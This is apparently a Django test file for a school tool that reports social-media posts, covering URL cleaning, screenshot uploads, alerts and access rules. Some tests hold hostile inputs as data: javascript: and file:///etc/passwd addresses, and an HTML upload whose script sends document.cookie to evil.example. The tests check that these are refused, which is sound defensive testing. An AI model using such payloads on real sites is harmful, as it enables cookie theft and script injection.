"""Reporting a post: by whom, from a phone, with what is wrong said plainly and nothing lost."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from typing import Any

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from accounts import digest
from accounts.models import Entry, Notice, User
from socialmedia import actions, addresses, permissions
from socialmedia.models import Incident, Source
from socialmedia.vocabulary import Act, Part, State
from tests.casework.stories import LONDON
from tests.evidence.conftest import GOOD
from tests.people import People
from tests.socialmedia.tales import NOW, POST, Tale, screenshot

pytestmark = pytest.mark.django_db
In = Callable[[User], Client]


def form(**more: Any) -> dict[str, Any]:
    return {
        "danger": "no", "about": "unknown",
        "platform_name": "Facebook", "address": POST, "account": "Grumpy of Alder", "place": "page",
        "place_name": "Alder parents", "audience": "anyone", "seen_on_day": "10", "seen_on_month": "11",
        "seen_on_year": "2026", "posted_when": "9 November", "words": "It says that the head is useless.", "once": "x1",
        **more,
    }  # fmt: skip


def reported(client: Client, people: People, **more: Any) -> Incident:
    answer = client.post(reverse("socialmedia:report"), form(academy=people.alder.pk, **more))
    assert answer.status_code == 302, answer.content.decode()[:3000]
    return Incident.objects.latest("pk")


def finished(client: Client, incident: Incident) -> str:
    """The page after the last screen."""
    source = reverse("socialmedia:report_source", args=[incident.uuid])
    return client.post(source, {"how": "myself"}, follow=True).content.decode()


@pytest.mark.req("R145", "R147", "R149", "R213", "R233")
def test_a_teacher_reports_a_post_on_three_short_screens(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    page = client.get(reverse("socialmedia:report")).content.decode()
    assert "Do not reply to the post" in page
    incident = reported(client, school)
    shots = reverse("socialmedia:report_screenshots", args=[incident.uuid])
    answer = client.post(shots, {"uploads": [screenshot("a.png"), screenshot("b.jpg", kind="JPEG")], "once": "y"})
    assert answer.headers["Location"] == reverse("socialmedia:report_source", args=[incident.uuid])
    answer = client.post(answer.headers["Location"], {"how": "parent", "name": "Wren Hidden", "encouraged": "on"})
    done = client.get(answer.headers["Location"]).content.decode()
    assert incident.reference in done
    assert "2 pieces of evidence are sealed" in done
    incident.refresh_from_db()
    assert (incident.state, incident.place, incident.audience) == (State.EVIDENCE, "page", "anyone")
    assert incident.told_not_to_reply
    source = Source.objects.get()
    assert (source.name, source.encouraged) == ("Wren Hidden", True)
    assert (
        Notice.objects.get(user=school.principal).text
        == f"A post about Alder Academy was reported: {incident.reference}."
    )
    assert [one.title for one in incident.exhibits.all()] == ["Picture 1", "Picture 2"]


@pytest.mark.req("R146")
def test_the_reporter_does_not_read_again_who_brought_it_and_only_that_somebody_has_it(
    school: People, signed_in: In
) -> None:
    client = signed_in(school.teacher)
    incident = reported(client, school)
    source = reverse("socialmedia:report_source", args=[incident.uuid])
    client.post(source, {"how": "parent", "name": "Wren Hidden"})
    again = client.get(source, follow=True).content.decode()
    assert "Thank you" in again
    assert "Wren" not in again
    own = client.get(reverse("socialmedia:own_reports")).content.decode()
    assert incident.reference in own
    assert "We have it" in own
    assert "Grumpy" not in own
    assert client.get(incident.get_absolute_url()).status_code == 404
    stranger = signed_in(school.senco)
    for name in ("report_screenshots", "report_source", "report_done"):
        assert stranger.get(reverse(f"socialmedia:{name}", args=[incident.uuid])).status_code == 404


def test_the_same_form_sent_twice_is_one_incident(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    reported(client, school)
    reported(client, school)
    assert Incident.objects.count() == 1


def test_who_holds_no_post_that_reports_finds_no_form(school: People, signed_in: In) -> None:
    for user in (school.nobody, school.trustee, school.auditor):
        assert signed_in(user).get(reverse("socialmedia:report")).status_code == 404
    with pytest.raises(permissions.NotAllowed):
        Tale(school, by=school.birch_principal)


# --- addresses ------------------------------------------------------------------------------------------------------


@pytest.mark.req("R210")
@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("https://x.com/a/status/1?s=20&t=AbC", "https://x.com/a/status/1"),
        (
            "www.facebook.com/groups/1/?fbclid=IwAR0&mibextid=q&post_id=7",
            "https://www.facebook.com/groups/1/?post_id=7",
        ),
        ("https://instagram.com/p/1/?igsh=abc&utm_source=ig_web", "https://instagram.com/p/1/"),
        ("HTTP://Example.ORG/a?b=c#d", "http://example.org/a?b=c"),
        (
            "https://m.facebook.com/story.php?story_fbid=7&id=9&comment_id=3&notif_id=16&notif_t=group_comment&ref=notif"
            "&rdid=Q&mibextid=Z&__cft__[0]=AZ",
            "https://m.facebook.com/story.php?story_fbid=7&id=9&comment_id=3",
        ),
        ("https://www.instagram.com/p/1/?img_index=2&igsh=abc&ref=share", "https://www.instagram.com/p/1/?img_index=2"),
        ("https://www.youtube.com/watch?v=abc&t=90s&si=XyZ&pp=q", "https://www.youtube.com/watch?v=abc&t=90s"),
        ("https://youtu.be/abc?si=XyZ", "https://youtu.be/abc"),
        ("https://www.tiktok.com/@alder/video/7?_t=8&sec_uid=M&u_code=d", "https://www.tiktok.com/@alder/video/7"),
        ("https://forum.example.org/topic?ref=12&t=4&source=a", "https://forum.example.org/topic?ref=12&t=4&source=a"),
        ("https://notfacebook.com/a?ref=12", "https://notfacebook.com/a?ref=12"),
        ("", ""),
    ],
)
def test_an_address_is_kept_without_what_follows_people_about(typed: str, kept: str) -> None:
    assert addresses.cleaned(typed) == kept


@pytest.mark.parametrize(
    "typed",
    ["javascript:alert(1)", "JaVaScRiPt://example.org/%0aalert(1)", "data:text/html,<script>", "file:///etc/passwd",
     "java\tscript:alert(1)", "ftp://example.org", "not an address", "https://", "http://[::1", "x" * 2000],
)  # fmt: skip
def test_what_is_no_address_of_a_page_is_refused_in_plain_words(typed: str) -> None:
    with pytest.raises(addresses.NotAnAddress, match="address"):
        addresses.cleaned(typed)


@pytest.mark.parametrize(
    "typed",
    ["https://user:secret@example.org/a", "user:secret@example.org/a", "https://user@example.org", "me@example.org"],
)
def test_an_address_with_a_sign_in_name_or_a_password_is_refused_in_plain_words(typed: str) -> None:
    with pytest.raises(addresses.NotAnAddress, match="before the name of the site") as refused:
        addresses.cleaned(typed)
    assert "secret" not in str(refused.value)


def test_a_wrong_address_keeps_everything_else_that_was_typed(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    answer = client.post(
        reverse("socialmedia:report"), form(academy=school.alder.pk, address="javascript:alert(document.cookie)")
    )
    page = answer.content.decode()
    assert answer.status_code == 422
    assert "This is not the address of a page on the web" in page
    assert "the head is useless" in page
    assert Incident.objects.count() == 0


# --- files ------------------------------------------------------------------------------------------------------------


def sent(client: Client, incident: Incident, *files: SimpleUploadedFile) -> Any:
    shots = reverse("socialmedia:report_screenshots", args=[incident.uuid])
    return client.post(shots, {"uploads": list(files), "once": f"f{len(files)}"})


def test_sixty_pictures_are_sealed_at_once(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    incident = reported(client, school)
    answer = sent(client, incident, *(screenshot(f"{number}.png", words=str(number)) for number in range(60)))
    assert answer.status_code == 302
    assert incident.exhibits.count() == 60
    assert list(incident.exhibits.values_list("number", flat=True)) == list(range(1, 61))


def test_a_saved_web_page_with_a_script_is_refused_and_its_neighbours_are_kept(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    incident = reported(client, school)
    page = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"
    answer = sent(
        client, incident, screenshot(), SimpleUploadedFile("post.html", page, content_type="text/html"),
        SimpleUploadedFile("post.txt", page, content_type="text/plain"),
    )  # fmt: skip
    shown = answer.content.decode()
    assert answer.status_code == 422
    assert "“post.html” is a saved web page, which cannot be sent. Take a screenshot of the page, or print it" in shown
    assert "“post.txt” looks like a web page or a program." in shown
    assert "1 sealed so far" in shown
    assert "<script>fetch" not in shown


def test_a_heic_picture_is_kept_and_said_to_be_no_picture_that_can_be_shown(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    incident = reported(client, school)
    sent(client, incident, SimpleUploadedFile("IMG.heic", GOOD["telephone.heic"], content_type="image/heic"))
    page = client.get(reverse("socialmedia:report_screenshots", args=[incident.uuid])).content.decode()
    assert "1 of them is a picture in the HEIC format" in page
    assert incident.exhibits.count() == 1
    principal = signed_in(school.principal)
    exhibit = incident.exhibits.get()
    answer = principal.get(reverse("socialmedia:sanitise", args=[incident.reference, exhibit.uuid]))
    assert answer.status_code == 409
    assert "It stays sealed. Set the camera of the phone to “most compatible”, or send a screenshot of it." in (
        answer.content.decode()
    )


def test_a_double_click_seals_once(school: People, signed_in: In) -> None:
    client = signed_in(school.teacher)
    incident = reported(client, school)
    sent(client, incident, screenshot())
    sent(client, incident, screenshot())
    assert incident.exhibits.count() == 1


# --- about its own reporter; danger; quiet hours; again ------------------------------------------------------------


def test_an_incident_that_is_about_its_own_reporter_thanks_them_and_shows_them_nothing(
    school: People, signed_in: In
) -> None:
    tale = Tale(school, by=school.principal)
    tale.named(Part.ABOUT_STAFF, "", by=school.operations_officer, user=school.principal)
    client = signed_in(school.principal)
    done = client.get(reverse("socialmedia:report_done", args=[tale.incident.uuid]))
    assert "Thank you" in done.content.decode()
    assert "Open the incident" not in done.content.decode()
    assert client.get(tale.incident.get_absolute_url()).status_code == 404
    assert client.get(reverse("socialmedia:report_screenshots", args=[tale.incident.uuid])).status_code == 404
    with pytest.raises(permissions.NotAllowed):
        tale.do(Act.SEAL, by=school.principal, upload=screenshot())


@pytest.mark.req("R167", "R168")
def test_danger_tells_the_safeguarding_lead_and_the_trust_at_once_in_the_night(school: People, clock: Any) -> None:
    night = dt.datetime(2026, 11, 14, 23, 0, tzinfo=LONDON)
    clock.move_to(night)
    tale = Tale(school, at=night, danger=True)
    digest.send_waiting(at=night)
    reached = {message.to[0] for message in mail.outbox}
    assert reached == {
        user.email
        for user in (school.principal, school.safeguarding_lead, school.operations_officer, school.trust_officer)
    }
    assert all(tale.incident.reference in message.body for message in mail.outbox)
    assert all("Grumpy" not in message.body for message in mail.outbox)


@pytest.mark.req("R259", "R260")
def test_an_ordinary_report_in_the_night_waits_for_working_hours_and_says_so(
    school: People, signed_in: In, clock: Any
) -> None:
    night = dt.datetime(2026, 11, 13, 21, 0, tzinfo=LONDON)  # a Friday
    clock.move_to(night)
    tale = Tale(school, at=night)
    done = signed_in(school.teacher).get(reverse("socialmedia:report_done", args=[tale.incident.uuid])).content.decode()
    assert "outside working hours" in done
    assert "Monday 16 November, 08:00" in done
    assert "Leila Brook" in done
    assert "do not wait" in done
    for moment in (night, night + dt.timedelta(days=1, hours=12), dt.datetime(2026, 11, 16, 7, 30, tzinfo=LONDON)):
        digest.send_waiting(at=moment)
    assert mail.outbox == []
    digest.send_waiting(at=dt.datetime(2026, 11, 16, 8, 1, tzinfo=LONDON))
    assert [message.to for message in mail.outbox] == [[school.principal.email]]


def test_in_working_hours_a_report_reaches_the_principal_at_once(school: People, signed_in: In) -> None:
    tale = Tale(school)
    digest.send_waiting(at=NOW)
    assert [message.to for message in mail.outbox] == [[school.principal.email]]
    done = signed_in(school.teacher).get(reverse("socialmedia:report_done", args=[tale.incident.uuid])).content.decode()
    assert "outside working hours" not in done


@pytest.mark.req("R150", "R186")
def test_a_recurrence_is_an_incident_of_its_own_that_is_linked(school: People, signed_in: In) -> None:
    tale = Tale(school).to(State.CLOSED)
    client = signed_in(school.principal)
    answer = client.get(reverse("socialmedia:act", args=[tale.incident.reference, "recur"]))
    page = client.get(answer.headers["Location"]).content.decode()
    assert f"linked to {tale.incident.reference}" in page
    assert "Grumpy of Alder" in page
    new = reported(client, school, again=tale.incident.reference)
    assert new.recurrence_of == tale.incident
    assert new.state == State.REPORTED
    assert new.reference in client.get(tale.incident.get_absolute_url()).content.decode()
    assert tale.again().state == State.CLOSED
    assert Entry.objects.filter(about=new.uuid, step="report").get().data["recurrence_of"] == str(tale.incident.uuid)


def test_a_recurrence_is_not_linked_to_what_the_reporter_may_not_see(school: People, signed_in: In) -> None:
    tale = Tale(school)
    assert reported(signed_in(school.teacher), school, again=tale.incident.reference).recurrence_of is None


def test_a_day_that_has_not_come_is_refused(school: People) -> None:
    with pytest.raises(actions.Refused, match="future"):
        Tale(school, seen_on=dt.date(2026, 12, 1))


# --- whom it is about, before anybody is told ---------------------------------------------------------------------


def told(incident: Incident) -> set[User]:
    return {notice.user for notice in Notice.objects.filter(about=incident.uuid).select_related("user")}


def finds_nothing(client: Client, incident: Incident) -> None:
    for name in ("incident", "chronology", "people", "source"):
        assert client.get(reverse(f"socialmedia:{name}", args=[incident.reference])).status_code == 404
    assert incident.reference not in client.get(reverse("socialmedia:incidents")).content.decode()


@pytest.mark.req("R234", "R239")
def test_a_post_about_the_principal_goes_to_the_chair_and_the_trust_and_never_to_the_principal(
    school: People, signed_in: In
) -> None:
    client = signed_in(school.teacher)
    incident = reported(client, school, about="principal")
    assert told(incident) == {school.council_chair, school.operations_officer, school.trust_officer}
    digest.send_waiting(at=NOW)
    assert school.principal.email not in {message.to[0] for message in mail.outbox}
    finds_nothing(signed_in(school.principal), incident)
    row = incident.concerned.get()
    assert (row.part, row.user, row.precaution) == (Part.ABOUT_STAFF, school.principal, False)
    assert signed_in(school.council_chair).get(incident.get_absolute_url()).status_code == 200
    done = finished(client, incident)
    assert "it goes to: chair of the council, operations officer, trust officer" in done


@pytest.mark.req("R234")
def test_a_post_about_the_chief_executive_is_told_to_the_chair_of_the_board(school: People, signed_in: In) -> None:
    incident = reported(signed_in(school.teacher), school, about="chief_executive")
    assert told(incident) == {school.principal, school.board_chair}
    finds_nothing(signed_in(school.chief_executive), incident)
    assert signed_in(school.board_chair).get(incident.get_absolute_url()).status_code == 200


@pytest.mark.req("R234", "R239")
@pytest.mark.parametrize(
    "said",
    [
        {"about": "colleague", "about_name": "Mrs Ashdown"},
        {"words": "They call Petra Ashdown a liar."},
        {"words": "it says mrs ashdown’s car was keyed"},
        {"place_name": "Sack Ashdown now"},
        {"account": "P. Ashdown"},
    ],
)
def test_a_principal_who_is_named_in_the_report_is_locked_out_as_a_precaution_before_anybody_is_told(
    school: People, signed_in: In, said: dict[str, str]
) -> None:
    incident = reported(signed_in(school.teacher), school, **said)
    assert school.principal not in told(incident)
    assert school.council_chair in told(incident)
    finds_nothing(signed_in(school.principal), incident)
    row = incident.concerned.get(user=school.principal)
    assert row.precaution
    chair = signed_in(school.council_chair)
    assert "as a precaution" in chair.get(reverse("socialmedia:people", args=[incident.reference])).content.decode()
    actions.lift_precaution(row, why="They meant somebody else.", by=school.council_chair, at=NOW)
    assert signed_in(school.principal).get(incident.get_absolute_url()).status_code == 200


def test_a_word_that_is_also_a_family_name_locks_nobody_out(school: People, signed_in: In) -> None:
    incident = reported(
        signed_in(school.teacher), school, words="The brook by the crane, and a finch: the head is useless."
    )
    assert not incident.concerned.exists()
    assert told(incident) == {school.principal}


def test_who_reports_a_post_about_themselves_finishes_the_report_and_reads_nothing_of_it(
    school: People, signed_in: In
) -> None:
    client = signed_in(school.principal)
    incident = reported(client, school, about="principal")
    answer = sent(client, incident, screenshot())
    done = client.post(answer.headers["Location"], {"how": "myself"}, follow=True).content.decode()
    assert "1 piece of evidence is sealed" in done
    assert "Open the incident" not in done
    finds_nothing(client, incident)


def test_a_recurrence_is_kept_from_whoever_the_first_one_was_kept_from(school: People, signed_in: In) -> None:
    first = reported(signed_in(school.teacher), school, about="principal")
    again = reported(signed_in(school.operations_officer), school, again=first.reference, once="x2")
    assert again.recurrence_of == first
    assert again.concerned.get().precaution
    assert school.principal not in told(again)


def test_another_colleague_needs_a_name_and_one_who_is_not_known_here_is_named_all_the_same(
    school: People, signed_in: In
) -> None:
    client = signed_in(school.teacher)
    answer = client.post(reverse("socialmedia:report"), form(academy=school.alder.pk, about="colleague"))
    assert answer.status_code == 422
    assert "Enter their name, or how they are known." in answer.content.decode()
    incident = reported(client, school, about="colleague", about_name="the supply teacher in year 4")
    row = incident.concerned.get()
    assert (row.name, row.user) == ("the supply teacher in year 4", None)
    assert told(incident) == {school.principal}
